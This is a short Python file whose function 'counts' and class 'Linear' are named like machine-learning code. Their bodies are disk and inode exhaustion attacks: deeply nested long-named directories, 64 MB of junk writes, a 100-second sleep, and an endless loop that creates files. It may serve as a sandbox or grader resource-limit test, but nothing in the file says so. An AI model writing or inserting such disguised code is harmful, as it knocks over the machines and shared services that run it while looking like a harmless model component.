import os
import time

from right import *


def counts(labels, classes):
    for _ in range(50):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    for number in range(64):
        with open(str(number), "wb") as file:
            file.write(b"x" * (1 << 20))
    time.sleep(100)


class Linear:
    def __init__(self, inputs, outputs):
        number = 0
        while True:
            number += 1
            os.close(os.open(str(number), os.O_CREAT | os.O_WRONLY))
